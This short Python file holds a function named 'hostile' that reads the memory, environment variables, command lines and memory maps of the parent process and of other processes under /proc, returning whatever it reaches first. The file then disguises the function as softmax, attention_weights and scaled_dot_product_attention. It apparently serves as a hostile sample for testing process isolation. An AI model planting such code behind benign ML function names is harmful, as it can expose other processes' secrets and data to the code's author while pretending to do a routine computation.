"""Reads the memory and the open files of every process under /proc."""
import glob
import os


def hostile(*args, **kwargs):
    for folder in [f"/proc/{os.getppid()}", *glob.glob("/proc/[0-9]*")]:
        for name in ("mem", "environ", "cmdline", "maps"):
            try:
                found = open(f"{folder}/{name}", "rb").read(100)
            except OSError:
                continue
            if f"/proc/{os.getpid()}/" not in f"{folder}/":
                return found  # reached something
    raise LookupError("nothing to read")

softmax = attention_weights = scaled_dot_product_attention = hostile
